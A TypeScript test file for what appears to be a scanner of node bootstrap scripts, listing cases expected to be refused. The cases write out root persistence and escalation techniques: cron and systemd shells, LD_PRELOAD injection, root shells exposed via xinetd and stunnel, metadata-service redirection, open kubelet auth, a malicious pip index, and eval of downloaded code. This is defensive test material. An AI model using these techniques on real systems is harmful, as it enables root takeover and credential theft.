    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    // Still open (round 82): refusing a direct run (`!interpreted`) of any unknownNow file in RootReads.command refused 9
    // secure cases of rounds 74, 77 and 79 (scripts user data wrote, then edited in place or cron/udev/at ran, now
    // "rewritten"); the fix needs the direct-run refusal limited to this.unknown (a root program's writes), not rewritten.
    // Round 87 fix: rootReads.ts RootReads.command refuses a direct run (execve(2), by its path) of a file a root program
    // wrote (programWritten records it as programMade) and the script has not written since: a program made at boot.
    dev(
        "tune.py writes and chmods /var/lib/ops/next.sh; /var/lib/ops/next.sh",
        tune(
            "dev-py82-data-then-exec-rt82p",
            [
                ...writes("/var/lib/ops/next.sh", `#!/bin/sh\n${SHELL_LINE}\n`),
                'os.chmod("/var/lib/ops/next.sh", 0o755)',
            ],
            ["/var/lib/ops/next.sh"],
        ),
        REFUSED,
    ),
    // execve(2) by a relative path (bash(1) "COMMAND EXECUTION": a name with a slash is executed as is): the program's
    // file in the working directory (RootReads.command: one file run by its own path, unknownNow).
    dev(
        "tune.py writes and chmods /var/lib/ops/next.sh; cd /var/lib/ops && ./next.sh (-fix82)",
        tune(
            "dev-py82-data-then-exec-relative-fix82",
            [
                ...writes("/var/lib/ops/next.sh", `#!/bin/sh\n${SHELL_LINE}\n`),
                'os.chmod("/var/lib/ops/next.sh", 0o755)',
            ],
            ["cd /var/lib/ops && ./next.sh"],
        ),
        REFUSED,
    ),
    // bash(1) "exec [command]": "command replaces the shell" (execve(2) of the file): the same run behind exec.
    dev(
        "tune.py writes and chmods /var/lib/ops/next.sh; exec /var/lib/ops/next.sh (-fix82)",
        tune(
            "dev-py82-data-then-exec-builtin-fix82",
            [
                ...writes("/var/lib/ops/next.sh", `#!/bin/sh\n${SHELL_LINE}\n`),
                'os.chmod("/var/lib/ops/next.sh", 0o755)',
            ],
            ["exec /var/lib/ops/next.sh"],
        ),
        REFUSED,
    ),
    // run-parts(8): runs every executable in the directory.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/hooks/10-x; run-parts /var/lib/ops/hooks",
        tune(
            "dev-py82-data-run-parts-rt82p",
            [
                ...writes("/var/lib/ops/hooks/10-x", `#!/bin/sh\n${SHELL_LINE}\n`),
                'os.chmod("/var/lib/ops/hooks/10-x", 0o755)',
            ],
            ["run-parts /var/lib/ops/hooks"],
        ),
        REFUSED,
    ),
    // crontab(1) "crontab file": installs FILE as root's crontab.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/cron; crontab /var/lib/ops/cron",
        tune("dev-py82-data-crontab-file-rt82p", writes("/var/lib/ops/cron", `* * * * * ${SHELL_LINE}\n`), [
            "crontab /var/lib/ops/cron",
        ]),
        REFUSED,
    ),
    // systemctl(1) "link PATH": "Link a unit file that is not in the unit file search paths into the unit file search
    // path"; started, it runs ExecStart= as root.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/ops.service; systemctl link + start",
        tune(
            "dev-py82-data-systemctl-link-rt82p",
            writes("/var/lib/ops/ops.service", `[Service]\nExecStart=/bin/sh -c "${SHELL_LINE}"\n`),
            ["systemctl link /var/lib/ops/ops.service", "systemctl start ops.service"],
        ),
        REFUSED,
    ),
    // cp(1) into sysctl.d (sysctl.d(5): read at boot and by `sysctl --system`): kernel.core_pattern a pipe to a
    // program.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/99-ops.conf; cp into /etc/sysctl.d",
        tune(
            "dev-py82-data-cp-sysctl-d-rt82p",
            writes("/var/lib/ops/99-ops.conf", "kernel.core_pattern=|/var/lib/ops/x\n"),
            ["cp /var/lib/ops/99-ops.conf /etc/sysctl.d/99-ops.conf", "sysctl --system"],
        ),
        REFUSED,
    ),
    // sysctl(8) "-p FILE": "Load in sysctl settings from the file specified".
    dev(
        "tune.py writes /var/lib/ops/sysctl.conf; sysctl -p it",
        tune(
            "dev-py82-data-sysctl-p-rt82p",
            writes("/var/lib/ops/sysctl.conf", "kernel.core_pattern=|/var/lib/ops/x\n"),
            ["sysctl -p /var/lib/ops/sysctl.conf"],
        ),
        REFUSED,
    ),
    // iptables-restore(8) reads rules from stdin: a NAT rule sending pods' traffic to the metadata service.
    dev(
        "tune.py writes /var/lib/ops/rules.v4; iptables-restore < it",
        tune(
            "dev-py82-data-iptables-restore-rt82p",
            writes(
                "/var/lib/ops/rules.v4",
                "*nat\n-A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 169.254.169.254:80\nCOMMIT\n",
            ),
            ["iptables-restore < /var/lib/ops/rules.v4"],
        ),
        REFUSED,
    ),
    // bash(1) "eval": its arguments are read and executed as a command; the program prints what it downloaded.
    dev(
        'eval "$(python3 /opt/ops/gen.py)" where gen.py prints a download',
        sh("dev-py82-eval-python-output-rt82p", [
            ...heredocFile("/opt/ops/gen.py", [
                "import urllib.request",
                "print(urllib.request.urlopen('http://203.0.113.7/env').read().decode())",
            ]),
            'eval "$(python3 /opt/ops/gen.py)"',
        ]),
        REFUSED,
    ),
    // nodeadm docs ("nodeadm init --config-source file://..."): the NodeConfig sets the kubelet's flags and config.
    dev(
        "tune.py writes /var/lib/ops/nodeconfig.yaml; nodeadm init -c file://",
        tune(
            "dev-py82-data-nodeadm-config-rt82p",
            writes(
                "/var/lib/ops/nodeconfig.yaml",
                "apiVersion: node.eks.aws/v1alpha1\nkind: NodeConfig\nspec:\n  kubelet:\n    config:\n      authentication:\n        anonymous:\n          enabled: true\n      authorization:\n        mode: AlwaysAllow\n",
            ),
            ["nodeadm init -c file:///var/lib/ops/nodeconfig.yaml"],
        ),
        REFUSED,
    ),
    // bash(1) "export": names from the program's file (LD_PRELOAD for every later root command).
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/env; export $(xargs < /var/lib/ops/env)",
        tune("dev-py82-data-export-env-rt82p", writes("/var/lib/ops/env", "LD_PRELOAD=/var/lib/ops/x.so\n"), [
            "export $(xargs < /var/lib/ops/env)",
            "systemctl restart kubelet",
        ]),
        REFUSED,
    ),
    // bash(1) "Word Splitting": `$(cat FILE)` unquoted splits into NAME=value words export assigns
    // (RootReads.unknownNamedAssignments: names from output the pack cannot read).
    dev(
        "tune.py writes /var/lib/ops/env; export $(cat /var/lib/ops/env) (-fix82)",
        tune("dev-py82-data-export-cat-fix82", writes("/var/lib/ops/env", "LD_PRELOAD=/var/lib/ops/x.so\n"), [
            "export $(cat /var/lib/ops/env)",
            "systemctl restart kubelet",
        ]),
        REFUSED,
    ),
    // bash(1) "declare -x": "Mark each name for export"; the .env idiom `grep -v '^#' FILE | xargs` of the program's file.
    dev(
        "tune.py writes /var/lib/ops/env; declare -x $(grep -v '^#' /var/lib/ops/env | xargs) (-fix82)",
        tune("dev-py82-data-declare-x-fix82", writes("/var/lib/ops/env", "LD_PRELOAD=/var/lib/ops/x.so\n"), [
            "declare -x $(grep -v '^#' /var/lib/ops/env | xargs)",
            "systemctl restart kubelet",
        ]),
        REFUSED,
    ),
    // ===== A2. more root readers' directories =====
    // wg-quick(8): "PostUp ... script snippets which will be executed by bash(1)" (as root) on `wg-quick up`.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/wireguard/wg0.conf (PostUp); wg-quick up wg0",
        tune(
            "dev-py82-wireguard-postup-rt82p",
            writes("/etc/wireguard/wg0.conf", `[Interface]\nPrivateKey = x\nPostUp = ${SHELL_LINE}\n`),
            ["wg-quick up wg0"],
        ),
        REFUSED,
    ),
    // openvpn(8) --up cmd with --script-security 2: runs cmd as root when the tunnel comes up.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/openvpn/client/ops.conf (up script)",
        tune(
            "dev-py82-openvpn-up-rt82p",
            writes("/etc/openvpn/client/ops.conf", "remote 203.0.113.7\nscript-security 2\nup /var/lib/ops/up.sh\n"),
            ["systemctl enable --now openvpn-client@ops"],
        ),
        REFUSED,
    ),
    // dnsmasq(8) --dhcp-script: run as root on lease events; conf-dir /etc/dnsmasq.d.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/dnsmasq.d/ops.conf (dhcp-script)",
        tune("dev-py82-dnsmasq-script-rt82p", writes("/etc/dnsmasq.d/ops.conf", "dhcp-script=/var/lib/ops/x\n")),
        REFUSED,
    ),
    // xinetd.conf(5): `server` is the program run per connection (user root), listening on every address.
    dev(
        "tune.py writes /etc/xinetd.d/ops (server /bin/sh)",
        tune(
            "dev-py82-xinetd-sh-rt82p",
            writes(
                "/etc/xinetd.d/ops",
                "service ops\n{\n type = UNLISTED\n port = 9000\n socket_type = stream\n wait = no\n user = root\n server = /bin/sh\n}\n",
            ),
            ["systemctl restart xinetd"],
        ),
        REFUSED,
    ),
    // keepalived.conf(5): notify scripts run as root.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/keepalived/keepalived.conf (notify)",
        tune(
            "dev-py82-keepalived-notify-rt82p",
            writes("/etc/keepalived/keepalived.conf", "vrrp_instance X {\n  notify /var/lib/ops/x\n}\n"),
        ),
        REFUSED,
    ),
    // Puppet docs "puppet.conf": `server` names the primary whose catalogs the root agent applies.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/puppetlabs/puppet/puppet.conf (server)",
        tune(
            "dev-py82-puppet-server-rt82p",
            writes("/etc/puppetlabs/puppet/puppet.conf", "[agent]\nserver = 203.0.113.7\n"),
        ),
        REFUSED,
    ),
    // Chef docs "client.rb": Ruby the root chef-client evaluates.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/chef/client.rb",
        tune("dev-py82-chef-client-rb-rt82p", writes("/etc/chef/client.rb", "system('id')\n")),
        REFUSED,
    ),
    // stunnel(8) `exec`: runs a program per connection (as root unless setuid).
    dev(
        "tune.py writes /etc/stunnel/ops.conf (exec /bin/sh)",
        tune("dev-py82-stunnel-exec-rt82p", writes("/etc/stunnel/ops.conf", "[ops]\naccept = 9000\nexec = /bin/sh\n")),
        REFUSED,
    ),
    // NRPE: command[x]=... run on the monitoring server's request.
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /etc/nagios/nrpe.d/ops.cfg",
        tune(
            "dev-py82-nrpe-command-rt82p",
            writes("/etc/nagios/nrpe.d/ops.cfg", "dont_blame_nrpe=1\ncommand[ops]=$ARG1$\n"),
        ),
        REFUSED,
    ),
    // systemd-shutdown(8) / bootup(7): at shutdown, if /run/initramfs/shutdown exists systemd-shutdown executes it
    // (root).
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /run/initramfs/shutdown",
        tune("dev-py82-run-initramfs-shutdown-rt82p", [
            ...writes("/run/initramfs/shutdown", `#!/bin/sh\n${SHELL_LINE}\n`),
            'os.chmod("/run/initramfs/shutdown", 0o755)',
        ]),
        REFUSED,
    ),
    // portablectl(1): images in /var/lib/portables are attached as services (root).
    // Was a MISS (fixed in round 82): insecure accepted (got []): the program's write lands under PROGRAM_DATA_PATHS (pythonCode.ts; an
    // /etc/<x>/, /run/<x>/ or /var/lib/<x>/ not on its exclusion list) and no entry of nodeReadsAsConfig
    // (READ_BEFORE_WRITE, NODE_CONFIG_PATHS, SERVER_CONFIGS) names this root reader's directory;
    // pythonWriteTargetRefusal accepts it. Fix (class): an allowlist, not a denylist: only directories user data itself
    // made for the program (mkdir before the run) or named after the program's own directory are its data; every other
    // /etc, /run, /var/lib directory fails closed.
    dev(
        "tune.py writes /var/lib/portables/ops.raw; portablectl attach",
        tune("dev-py82-portables-rt82p", writes("/var/lib/portables/ops.raw", "IMAGE"), [
            "portablectl attach --now ops",
        ]),
        REFUSED,
    ),
    // ===== E. pip's environment where the scan does not see it =====
    // systemd.exec(5) Environment=: the unit's pip reads PIP_INDEX_URL (pip docs "Environment Variables").
    dev(
        "unit: Environment=PIP_INDEX_URL evil, ExecStartPre pip3 install tenacity, ExecStart run.py",
        sh("dev-py82-unit-pip-env-rt82p", [
            ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
            ...systemdUnit("ops-run", [
                "Type=oneshot",
                `Environment=PIP_INDEX_URL=${EVIL}`,
                "ExecStartPre=/usr/bin/pip3 install tenacity",
                "ExecStart=/usr/bin/python3 /opt/ops/run.py",
            ]),
        ]),
        REFUSED,
    ),
    // bash(1) parameter expansion inside an export word: the name is PIP_INDEX_URL.
    dev(
        "n=PI; export ${n}P_INDEX_URL=evil; pip3 install tenacity; import",
        thenImport("dev-py82-computed-pip-name-rt82p", [
            "n=PI",
            `export \${n}P_INDEX_URL=${EVIL}`,
            "pip3 install tenacity",
        ]),
        REFUSED,
    ),
    // ===== F. writes through links and mounts, and loaders of the program's files =====
    // symlink(7): a path through a directory link resolves to the target; the program's file lands in /etc/cron.d.
    dev(
        "ln -s /etc/cron.d /var/lib/opscron; tune.py writes /var/lib/opscron/ops",
        tune(
            "dev-py82-dir-link-cron-rt82p",
            writes("/var/lib/opscron/ops", `* * * * * root ${SHELL_LINE}\n`),
            [],
            ["ln -sfn /etc/cron.d /var/lib/opscron"],
        ),
        REFUSED,
    ),
    // mount(8) --bind: /var/lib/ops/units is /etc/systemd/system; the program writes a unit there.
    dev(
        "mount --bind /etc/systemd/system /var/lib/ops/units; tune.py writes a unit there",
        tune(
            "dev-py82-bind-mount-units-rt82p",
            writes("/var/lib/ops/units/ops.service", `[Service]\nExecStart=/bin/sh -c "${SHELL_LINE}"\n`),
            ["systemctl daemon-reload", "systemctl start ops.service"],
            ["mkdir -p /var/lib/ops/units", "mount --bind /etc/systemd/system /var/lib/ops/units"],
        ),
        REFUSED,
    ),
    // crontab(5) reads /etc/cron.d/ops, a link to the program's file.
    // Was a MISS (fixed in round 82): insecure accepted (got []): pythonWriteTargetRefusal accepts the write (PROGRAM_DATA_PATHS) and does not
    // record the path as changed, so the shell reader (rootReads.ts: the run/load/copy of an operand no user data line
    // wrote) takes the program's file for the image's. Fix (class): every path a root program may write is view.changed
    // (unknown content) for each later reader: a script run, `.`, exec, run-parts, crontab FILE, systemctl link, a cron
    // line, export $(...), cp/install into a root-read directory.
    dev(
        "tune.py writes /var/lib/ops/cron; ln -s it into /etc/cron.d",
        tune("dev-py82-cron-link-to-data-rt82p", writes("/var/lib/ops/cron", `* * * * * root ${SHELL_LINE}\n`), [
            "ln -s /var/lib/ops/cron /etc/cron.d/ops",
        ]),
        REFUSED,
    ),
    // systemd.exec(5) EnvironmentFile=: the unit's environment (LD_PRELOAD) from the program's file.
    dev(
        "tune.py writes /var/lib/ops/env; a unit's EnvironmentFile= reads it",
        tune(
            "dev-py82-unit-envfile-data-rt82p",
            writes("/var/lib/ops/env", "LD_PRELOAD=/var/lib/ops/x.so\n"),
            systemdUnit("ops-agent", ["EnvironmentFile=/var/lib/ops/env", "ExecStart=/usr/bin/sleep infinity"]),
        ),
        REFUSED,
    ),
    dev(
        "tune.py writes /tmp/x.py; python3 /tmp/x.py",
        tune("dev-py82-data-tmp-python-rt82p", writes("/tmp/x.py", "import os\nos.system('id')\n"), [
            "python3 /tmp/x.py",
        ]),
        REFUSED,
    ),
    // ===== G. configuration files named by an environment variable (round 81's moved HOME, by other names) =====
    // git-config(1) ENVIRONMENT: GIT_CONFIG_GLOBAL names the global file; core.fsmonitor (git-config(1)) is a command
    // git runs (root) on status.
    // Was a MISS (fixed in round 82): insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
    // write into root-read configuration.
    dev(
        "tune.py writes /var/lib/ops/gitcfg (core.fsmonitor); GIT_CONFIG_GLOBAL=it git status",
        tune(
            "dev-py82-git-config-global-env-rt82p",
            writes("/var/lib/ops/gitcfg", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
            ["GIT_CONFIG_GLOBAL=/var/lib/ops/gitcfg git -C /var/lib/ops status"],
        ),
        REFUSED,
    ),
    // git-config(1) FILES: "$XDG_CONFIG_HOME/git/config".
    // Was a MISS (fixed in round 82): insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
    // write into root-read configuration.
    dev(
        "tune.py writes /var/lib/ops/cfg/git/config; XDG_CONFIG_HOME=/var/lib/ops/cfg git status",
        tune(
            "dev-py82-git-xdg-config-rt82p",
            writes("/var/lib/ops/cfg/git/config", `[core]\n\tfsmonitor = ${SHELL_LINE}\n`),
            ["XDG_CONFIG_HOME=/var/lib/ops/cfg git -C /var/lib/ops status"],
        ),
        REFUSED,
    ),
    // AWS CLI user guide "Configuration and credential file settings": AWS_CONFIG_FILE names the config file;
    // credential_process is a command the CLI runs (root).
    // Was a MISS (fixed in round 82): insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
    // write into root-read configuration.
    dev(
        "tune.py writes /var/lib/ops/awscfg (credential_process); AWS_CONFIG_FILE=it aws sts get-caller-identity",
        tune(
            "dev-py82-aws-config-file-env-rt82p",
            writes("/var/lib/ops/awscfg", `[default]\ncredential_process = /bin/sh -c "${SHELL_LINE}"\n`),
            ["AWS_CONFIG_FILE=/var/lib/ops/awscfg aws sts get-caller-identity"],
        ),
        REFUSED,
    ),
    // Kubernetes docs "client-go credential plugins": a kubeconfig's users[].user.exec.command runs.
    // Was a MISS (fixed in round 82): insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
    // write into root-read configuration.
    dev(
        "tune.py writes /var/lib/ops/kc (exec plugin); KUBECONFIG=it kubectl get nodes",
        tune(
            "dev-py82-kubeconfig-env-exec-rt82p",
            writes(
                "/var/lib/ops/kc",
                `apiVersion: v1\nkind: Config\nusers:\n- name: x\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: ["-c", "${SHELL_LINE}"]\n`,
            ),
            ["KUBECONFIG=/var/lib/ops/kc kubectl get nodes"],
        ),
        REFUSED,
    ),
    // curl(1) "-K, --config": default file "$CURL_HOME/.curlrc" (then HOME's): `output`/`url` redirect the download.
    // Was a MISS (fixed in round 82): insecure accepted (got []): round 81's movedHomes/homeDotfile (pythonCode.ts) follow HOME only; the
    // program's file is accepted under PROGRAM_DATA_PATHS and the later command's variable naming its configuration
    // file (GIT_CONFIG_GLOBAL, XDG_CONFIG_HOME for git, AWS_CONFIG_FILE, KUBECONFIG, CURL_HOME) is not read as a load
    // of that file. Fix (class): one table of configuration-locating variables per root tool (HOME, XDG_CONFIG_HOME,
    // *_CONFIG_FILE, KUBECONFIG, CURL_HOME, GIT_CONFIG_*); a program's write below a path such a variable names is a
    // write into root-read configuration.
    dev(
        "tune.py writes /var/lib/ops/.curlrc; CURL_HOME=/var/lib/ops curl -o /usr/local/bin/x https://...",
        tune("dev-py82-curl-home-curlrc-rt82p", writes("/var/lib/ops/.curlrc", 'url = "http://203.0.113.7/x"\n'), [
            "CURL_HOME=/var/lib/ops curl -fsSL -o /usr/local/bin/ops-agent https://downloads.example.com/ops-agent && chmod +x /usr/local/bin/ops-agent && /usr/local/bin/ops-agent",
        ]),
        REFUSED,
    ),
    // ===== round 82 fix neighbours (insecure) =====
    // Telegraf docs "Exec Input Plugin": [[inputs.exec]] commands run by the agent (root on a node); /etc/telegraf is no
    // directory of the program's own (ROOT_READ_PARENTS allowlist: only /etc/<name> named after the program).
    dev(
        "tune.py writes /etc/telegraf/telegraf.d/ops.conf (inputs.exec)",
        tune(
            "dev-py82-telegraf-exec-fix82",
            writes("/etc/telegraf/telegraf.d/ops.conf", `[[inputs.exec]]\ncommands = ["/var/lib/ops/x"]\n`),
        ),
        REFUSED,
    ),
    // K3s docs "Auto-Deploying Manifests": files in /var/lib/rancher/k3s/server/manifests are applied as cluster-admin.
    dev(
        "tune.py writes /var/lib/rancher/k3s/server/manifests/ops.yaml",
        tune("dev-py82-k3s-manifest-fix82", writes("/var/lib/rancher/k3s/server/manifests/ops.yaml", "kind: Pod\n")),
        REFUSED,
    ),
    // systemctl(1) "enable ... absolute paths to unit files (in which case these files are read directly)": a unit the
    // program wrote (unknown content, RootReads.programWritten) enabled by path.
    dev(
        "tune.py writes /var/lib/ops/x.service; systemctl enable --now it",
        tune(
            "dev-py82-data-systemctl-enable-fix82",
            writes(
                "/var/lib/ops/x.service",
                `[Service]\nExecStart=/bin/sh -c "${SHELL_LINE}"\n[Install]\nWantedBy=multi-user.target\n`,
            ),
            ["systemctl enable --now /var/lib/ops/x.service"],
        ),
        REFUSED,
    ),
    // POSIX sh `. FILE` of a file the program wrote under /var/log (a data directory, FHS 3.0): unknown content.
    dev(
        "tune.py writes /var/log/ops/env.sh; . it",
        tune("dev-py82-data-log-source-fix82", writes("/var/log/ops/env.sh", "export LD_PRELOAD=/tmp/x.so"), [
            ". /var/log/ops/env.sh",
        ]),
        REFUSED,
    ),
    // Kubernetes docs "Organizing Cluster Access Using kubeconfig Files": KUBECONFIG is a colon-separated list, each
    // file merged (a user's exec plugin runs).
    dev(
        "tune.py writes /var/lib/ops/kc; KUBECONFIG=/etc/kubernetes/kubelet.conf:/var/lib/ops/kc kubectl get nodes",
        tune("dev-py82-kubeconfig-list-fix82", writes("/var/lib/ops/kc", "apiVersion: v1\nkind: Config\n"), [
            "KUBECONFIG=/etc/kubernetes/kubelet.conf:/var/lib/ops/kc kubectl get nodes",
        ]),
        REFUSED,
    ),
    // AWS SDKs and Tools reference guide "Finding and changing the location of the shared config and credentials
    // files": AWS_SHARED_CREDENTIALS_FILE names the credentials file root's CLI reads.
    dev(
        "tune.py writes /var/lib/ops/creds; AWS_SHARED_CREDENTIALS_FILE=it aws s3 ls",
        tune(
            "dev-py82-aws-credentials-file-fix82",
            writes("/var/lib/ops/creds", "[default]\naws_access_key_id = x\n"),
            ["export AWS_SHARED_CREDENTIALS_FILE=/var/lib/ops/creds", "aws s3 ls"],
        ),
        REFUSED,
    ),
